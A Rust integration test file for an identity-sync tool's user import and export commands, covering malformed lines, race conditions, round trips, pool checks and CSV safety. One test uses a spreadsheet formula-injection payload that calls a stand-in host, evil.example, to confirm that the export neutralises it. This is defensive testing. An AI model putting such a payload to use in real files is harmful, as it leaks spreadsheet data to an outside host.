//! Onboarding a directory with the binary, as an operator does: `users import` with identities
//! linked ahead, every kind of bad line reported by number, an import racing the worker's logins,
//! and `users export` read back by `users import` with nothing added.

use std::io::Write;

use serde_json::{Value, json};

use identity_sync::domain::decision::Outcome;
use idsync_test_support::*;

fn import(services: &Services, file: &std::path::Path, extra: &[&str]) -> (i32, String, String) {
    let mut command = services.command();
    command.args(["users", "import", file.to_str().unwrap()]);
    command.args(extra);
    run(&mut command)
}

/// The line numbers a run reported on standard error, in order.
fn failed_lines(stderr: &str) -> Vec<u64> {
    stderr
        .lines()
        .filter_map(|l| l.strip_prefix("line ")?.split(':').next()?.parse().ok())
        .collect()
}

#[tokio::test]
async fn every_kind_of_bad_line_is_reported_by_number_and_the_rest_is_added() {
    let services = Services::new().await;
    let db = services.migrate().await;
    let existing = create_user(&db, Some("taken@corp.example"), None, Some("taken")).await;
    // An identity already linked to the existing account.
    let app = TestApp::spawn(&services).await;
    let mut broker = Broker::connect(&services).await;
    let reply = broker
        .login(&login(
            "plain",
            "linked-elsewhere",
            json!({"username": "someone"}),
        ))
        .await;
    assert_eq!(reply.outcome, Outcome::UserCreated);
    broker.next_event().await;

    let file = services.dir.join("directory.jsonl");
    let mut f = std::fs::File::create(&file).unwrap();
    let lines = [
        // 1: a new account with an identity linked ahead and an attribute
        r#"{"user_pool_id": "pool-1", "email": "Zhang@Corp.Example", "email_verified": true, "username": "zhang", "name": "Zhang", "attributes": {"employee_id": "E1"}, "identities": [{"connection": "matching", "external_id": "dt-zhang"}]}"#,
        // 2: not JSON
        "{this is not json",
        // 3: a malformed email
        r#"{"user_pool_id": "pool-1", "email": "not-an-email"}"#,
        // 4: the email of line 1 on another account: a duplicate inside the file
        r#"{"user_pool_id": "pool-1", "email": "zhang@corp.example", "username": "other"}"#,
        // 5: the email of an account already there
        r#"{"user_pool_id": "pool-1", "email": "taken@corp.example", "username": "taken2"}"#,
        // 6: an identity linked to another account
        r#"{"user_pool_id": "pool-1", "username": "li", "identities": [{"connection": "plain", "external_id": "linked-elsewhere"}]}"#,
        // 7: a new account
        r#"{"user_pool_id": "pool-1", "phone": "+8613800138000", "phone_verified": true}"#,
        // 8: line 1 again: already present, not a failure
        r#"{"user_pool_id": "pool-1", "email": "Zhang@Corp.Example", "email_verified": true, "username": "zhang", "name": "Zhang", "attributes": {"employee_id": "E1"}, "identities": [{"connection": "matching", "external_id": "dt-zhang"}]}"#,
        // 9: a field the format does not have
        r#"{"user_pool_id": "pool-1", "username": "wang", "shoe_size": 42}"#,
        // 10: two identities of one connection
        r#"{"user_pool_id": "pool-1", "username": "zhao", "identities": [{"connection": "matching", "external_id": "a"}, {"connection": "matching", "external_id": "b"}]}"#,
    ];
    for line in lines {
        writeln!(f, "{line}").unwrap();
    }
    drop(f);

    let (code, stdout, stderr) = import(&services, &file, &[]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert_eq!(failed_lines(&stderr), [2, 3, 4, 5, 6, 9, 10], "{stderr}");
    assert!(
        stdout.contains("added 2, already present 1, failed 7, identities linked 1"),
        "{stdout}"
    );
    assert!(stderr.contains("line 4: email is held by user"), "{stderr}");
    assert!(
        stderr.contains(&format!("line 5: email is held by user {existing}")),
        "{stderr}"
    );
    assert!(
        stderr.contains("line 6: identity plain/linked-elsewhere is linked to user"),
        "{stderr}"
    );
    assert_eq!(count(&db, "SELECT count(*) FROM users").await, 4);

    // The identity linked ahead is the account's at its first login: existing_user, and its
    // snapshot is the account's values, so nothing reads as changed.
    let reply = broker
        .login(&login(
            "matching",
            "dt-zhang",
            json!({"email": "zhang@corp.example", "email_verified": true, "username": "zhang"}),
        ))
        .await;
    assert_eq!(reply.outcome, Outcome::ExistingUser, "{reply:?}");
    broker.no_more_events().await;

    // --json prints the summary as one object; a clean re-import adds nothing.
    let (code, stdout, _) = import(&services, &file, &["--json"]);
    assert_eq!(code, 1);
    let summary: Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!(
        (
            &summary["lines"],
            &summary["added"],
            &summary["already_present"],
            &summary["failed"]
        ),
        (&json!(10), &json!(0), &json!(3), &json!(7)),
        "{summary}"
    );
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_login_racing_an_import_of_the_same_person_gives_one_account() {
    let services = Services::new().await;
    let db = services.migrate().await;
    let app = TestApp::spawn(&services).await;
    let mut broker = Broker::connect(&services).await;
    let people = 600;
    // A round where one side was done before the other began proves nothing of the race (on a
    // loaded machine the import's process may start late): each round must be right, and rounds
    // are run until both sides have won for someone.
    let (mut import_first, mut login_first) = (0, 0);
    for round in 0..5 {
        let file = services.dir.join(format!("people-{round}.jsonl"));
        let mut f = std::fs::File::create(&file).unwrap();
        for i in 0..people {
            writeln!(
                f,
                r#"{{"user_pool_id": "pool-1", "email": "p{round}-{i}@corp.example", "email_verified": true}}"#
            )
            .unwrap();
        }
        drop(f);

        // The same people log in (field matching on email) while the import runs.
        let importing = tokio::task::spawn_blocking({
            let mut command = services.command();
            command.args(["users", "import", file.to_str().unwrap()]);
            move || run(&mut command)
        });
        let mut pending = Vec::new();
        for i in (0..people).rev() {
            let event = login(
                "matching",
                &format!("dt-{round}-{i}"),
                json!({"email": format!("p{round}-{i}@corp.example"), "email_verified": true}),
            );
            pending.push(broker.request(&event).await);
        }
        let mut linked = 0;
        for correlation_id in pending {
            match broker.reply(&correlation_id).await.outcome {
                Outcome::UserLinked => linked += 1,
                Outcome::UserCreated => {}
                other => panic!("unexpected {other:?}"),
            }
        }
        let (code, stdout, stderr) = importing.await.unwrap();
        assert_eq!(code, 0, "every line accepted: {stdout}{stderr}");
        let so_far = (people * (round + 1)) as i64;
        assert_eq!(
            count(&db, "SELECT count(*) FROM users").await,
            so_far,
            "{stdout}{stderr}"
        );
        assert_eq!(count(&db, "SELECT count(*) FROM identities").await, so_far);
        // Every person the import added first was linked by the login; every other one the
        // login created first, and the import found it already there.
        let figure = |name: &str| -> i64 {
            stdout
                .split(&format!("{name} "))
                .nth(1)
                .and_then(|s| s.split(|c: char| !c.is_ascii_digit()).next())
                .and_then(|n| n.parse().ok())
                .unwrap_or_else(|| panic!("no {name} in {stdout}"))
        };
        let (added, present, failed) =
            (figure("added"), figure("already present"), figure("failed"));
        assert_eq!(failed, 0, "{stdout}");
        assert_eq!(added + present, people as i64, "{stdout}");
        assert_eq!(added, linked, "{stdout}");
        import_first += linked;
        login_first += present;
        if import_first > 0 && login_first > 0 {
            app.stop().await;
            return;
        }
    }
    panic!(
        "in five rounds the import came first for {import_first} people and the login for {login_first}"
    );
}

#[tokio::test]
async fn export_then_import_adds_nothing_in_either_format() {
    let services = Services::new().await;
    let db = services.migrate().await;
    let file = services.dir.join("seed.jsonl");
    std::fs::write(
        &file,
        concat!(
            r#"{"user_pool_id": "pool-1", "email": "a@corp.example", "email_verified": true, "name": "A, with a comma", "protected": true, "attributes": {"employee_id": "E1", "title": "says \"hi\""}, "identities": [{"connection": "matching", "external_id": "dt-a"}, {"connection": "plain", "external_id": "oidc-a"}]}"#,
            "\n",
            r#"{"user_pool_id": "pool-1", "phone": "+8613800138000", "username": "张三"}"#,
            "\n",
            r#"{"user_pool_id": "pool-2", "username": "other-pool"}"#,
            "\n",
        ),
    )
    .unwrap();
    let (code, stdout, stderr) = import(&services, &file, &[]);
    assert_eq!(code, 0, "{stdout}{stderr}");

    let export = |format: &str, pool: Option<&str>| {
        let mut command = services.command();
        command.args(["users", "export", "--format", format]);
        if let Some(pool) = pool {
            command.args(["--pool", pool]);
        }
        let (code, stdout, stderr) = run(&mut command);
        assert_eq!(code, 0, "{stderr}");
        stdout
    };
    let jsonl = export("jsonl", None);
    let accounts: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(accounts.len(), 3, "{jsonl}");
    let a = accounts
        .iter()
        .find(|a| a["email"] == "a@corp.example")
        .unwrap();
    assert_eq!(a["protected"], true);
    assert_eq!(a["attributes"]["title"], "says \"hi\"");
    assert_eq!(
        a["identities"],
        json!([{"connection": "matching", "external_id": "dt-a"},
               {"connection": "plain", "external_id": "oidc-a"}])
    );
    assert_eq!(export("jsonl", Some("pool-2")).lines().count(), 1);

    for (format, text) in [("jsonl", jsonl.clone()), ("csv", export("csv", None))] {
        let path = services.dir.join(format!("export.{format}"));
        std::fs::write(&path, &text).unwrap();
        let (code, stdout, stderr) = import(&services, &path, &[]);
        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
        assert!(
            stdout.contains("added 0, already present 3, failed 0"),
            "{format}: {stdout}"
        );
    }
    assert_eq!(export("jsonl", None), jsonl, "nothing changed");
    assert_eq!(count(&db, "SELECT count(*) FROM identities").await, 2);
}

#[tokio::test]
async fn the_admin_api_creates_an_account_with_identities_linked_ahead() {
    let services = Services::new().await;
    let app = TestApp::spawn(&services).await;
    let mut broker = Broker::connect(&services).await;
    let (status, created) = app
        .api()
        .post(
            "/v1/users",
            json!({"user_pool_id": POOL, "email": "ahead@corp.example", "email_verified": true,
                   "identities": [{"connection": "matching", "external_id": "dt-ahead"}]}),
        )
        .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["identities"][0]["connection"], "matching");
    assert_eq!(created["identities"][0]["external_id"], "dt-ahead");

    for (body, expected) in [
        (
            json!({"user_pool_id": POOL, "username": "thief",
                   "identities": [{"connection": "matching", "external_id": "dt-ahead"}]}),
            (409, "identity_taken"),
        ),
        (
            json!({"user_pool_id": POOL, "username": "twice",
                   "identities": [{"connection": "plain", "external_id": "a"},
                                  {"connection": "plain", "external_id": "b"}]}),
            (422, "invalid_field"),
        ),
        (
            json!({"user_pool_id": POOL, "username": "bad",
                   "identities": [{"connection": "Not An Identifier", "external_id": "a"}]}),
            (422, "invalid_field"),
        ),
        (
            json!({"user_pool_id": POOL, "email": "ahead@corp.example", "email_verified": true}),
            (409, "user_exists"),
        ),
    ] {
        let (status, answer) = app.api().post("/v1/users", body.clone()).await;
        assert_eq!((status, error_code(&answer)), expected, "{body}: {answer}");
    }
    let db = services.db().await;
    assert_eq!(count(&db, "SELECT count(*) FROM users").await, 1);

    let reply = broker
        .login(&login(
            "matching",
            "dt-ahead",
            json!({"email": "ahead@corp.example", "email_verified": true}),
        ))
        .await;
    assert_eq!(reply.outcome, Outcome::ExistingUser, "{reply:?}");
    broker.no_more_events().await;
    app.stop().await;
}

#[tokio::test]
async fn unreadable_lines_fail_alone_and_identities_join_an_existing_account_only_by_its_id() {
    let services = Services::new().await;
    let db = services.migrate().await;
    let existing = create_user(&db, Some("known@corp.example"), None, None).await;
    let file = services.dir.join("mixed.jsonl");
    let mut bytes = Vec::new();
    // 1: fine
    bytes.extend_from_slice(br#"{"user_pool_id": "pool-1", "username": "first"}"#);
    bytes.push(b'\n');
    // 2: not UTF-8
    bytes.extend_from_slice(b"{\"user_pool_id\": \"pool-1\", \"username\": \"\xff\xfe\"}\n");
    // 3: a line of 70,000 bytes
    bytes.extend_from_slice(br#"{"user_pool_id": "pool-1", "name": ""#);
    bytes.extend(std::iter::repeat_n(b'x', 70_000));
    bytes.extend_from_slice(b"\"}\n");
    // 4: the existing account by its values, with an identity: refused, equal values are no proof
    bytes.extend_from_slice(
        br#"{"user_pool_id": "pool-1", "email": "known@corp.example", "email_verified": true, "name": "Existing", "identities": [{"connection": "plain", "external_id": "known-1"}]}"#,
    );
    bytes.push(b'\n');
    // 5: the same, naming the account by its id: the identity is linked
    bytes.extend_from_slice(
        format!(
            r#"{{"user_pool_id": "pool-1", "id": "{existing}", "email": "known@corp.example", "email_verified": true, "name": "Existing", "identities": [{{"connection": "plain", "external_id": "known-1"}}]}}"#
        )
        .as_bytes(),
    );
    bytes.extend_from_slice(b"\r\n");
    // 6: fine, after a CRLF line end and without a final newline
    bytes.extend_from_slice(br#"{"user_pool_id": "pool-1", "username": "last"}"#);
    std::fs::write(&file, bytes).unwrap();

    let (code, stdout, stderr) = import(&services, &file, &[]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert_eq!(failed_lines(&stderr), [2, 3, 4], "{stderr}");
    assert!(stderr.contains("line 2: not UTF-8 text"), "{stderr}");
    assert!(
        stderr.contains("line 3: longer than 65536 bytes"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "line 4: user {existing} exists: name it by its id"
        )),
        "{stderr}"
    );
    assert!(
        stdout.contains("added 2, already present 1, failed 3, identities linked 1"),
        "{stdout}"
    );
    let linked: (uuid::Uuid,) =
        sqlx::query_as("SELECT user_id FROM identities WHERE external_id = 'known-1'")
            .fetch_one(&db)
            .await
            .unwrap();
    assert_eq!(linked.0, existing);
}

/// A connection is named inside its pool: an import line may link ahead an identity of a
/// connection of its own pool, or of one unknown everywhere (created later), never one of
/// another pool's connections; and `verify` reports such an identity however it got there.
#[tokio::test]
async fn an_import_line_cannot_link_an_identity_of_another_pools_connection() {
    let services = Services::new().await;
    // `run` stores the configured connections (all of pool-1).
    TestApp::spawn(&services).await.stop().await;
    let db = services.db().await;
    let file = services.dir.join("pools.jsonl");
    std::fs::write(
        &file,
        concat!(
            // pool-2 has no connection; `matching` is pool-1's.
            r#"{"user_pool_id": "pool-2", "username": "borrower", "identities": [{"connection": "matching", "external_id": "dt-x"}]}"#,
            "\n",
            r#"{"user_pool_id": "pool-2", "username": "early", "identities": [{"connection": "future-sso", "external_id": "f-1"}]}"#,
            "\n",
            r#"{"user_pool_id": "pool-1", "username": "own", "identities": [{"connection": "matching", "external_id": "dt-own"}]}"#,
            "\n",
        ),
    )
    .unwrap();
    let (code, stdout, stderr) = import(&services, &file, &[]);
    assert_eq!(code, 1, "a failed line fails the run: {stdout}{stderr}");
    assert_eq!(failed_lines(&stderr), [1], "{stderr}");
    assert!(
        stderr.contains("connection matching belongs to user pool pool-1"),
        "{stderr}"
    );
    assert!(
        stdout.contains("added 2, already present 0, failed 1"),
        "{stdout}"
    );
    assert_eq!(
        count(&db, "SELECT count(*) FROM identities WHERE user_pool_id = 'pool-2' AND connection = 'matching'")
            .await,
        0
    );
    let verify = |services: &Services| {
        let mut command = services.command();
        command.arg("verify");
        run(&mut command)
    };
    let (code, stdout, stderr) = verify(&services);
    assert_eq!(code, 0, "{stdout}{stderr}");

    // However it got there, verify names it.
    sqlx::query(
        "INSERT INTO identities (user_pool_id, connection, external_id, user_id, profile)
         SELECT 'pool-2', 'matching', 'dt-orphan', id, '{}' FROM users WHERE username = 'early'",
    )
    .execute(&db)
    .await
    .unwrap();
    let (code, stdout, stderr) = verify(&services);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        stdout
            .contains("an identity of a connection that belongs to another pool: pool-2/matching"),
        "{stdout}{stderr}"
    );
}

/// A name that a spreadsheet would run as a formula, set by a plain login, is written to a CSV
/// export neutralised (a `'` in front), and the import reads it back as it was stored.
#[tokio::test]
async fn a_csv_export_neutralises_formulas_and_reads_back_unchanged() {
    let services = Services::new().await;
    let app = TestApp::spawn(&services).await;
    let mut broker = Broker::connect(&services).await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A2,"click")"#;
    for (n, name) in [formula, "+1 dialled", "-minus", "@at", "'quoted", "plain"]
        .into_iter()
        .enumerate()
    {
        let reply = broker
            .login(&login("plain", &format!("x-{n}"), json!({"name": name})))
            .await;
        assert_eq!(reply.outcome, Outcome::UserCreated);
    }
    app.stop().await;
    let mut command = services.command();
    command.args(["users", "export", "--format", "csv"]);
    let (code, csv, stderr) = run(&mut command);
    assert_eq!(code, 0, "{stderr}");
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[7].to_owned()).collect();
    assert!(names.contains(&format!("'{formula}")), "{names:?}");
    for cell in &names {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    // Into another database: the same names.
    let other = Services::new().await;
    let path = other.dir.join("export.csv");
    std::fs::write(&path, &csv).unwrap();
    let (code, stdout, stderr) = import(&other, &path, &[]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    let db = other.db().await;
    let mut stored: Vec<String> = sqlx::query_scalar("SELECT name FROM users ORDER BY name")
        .fetch_all(&db)
        .await
        .unwrap();
    stored.sort();
    let mut expected: Vec<String> = [formula, "+1 dialled", "-minus", "@at", "'quoted", "plain"]
        .map(str::to_owned)
        .to_vec();
    expected.sort();
    assert_eq!(stored, expected);
}
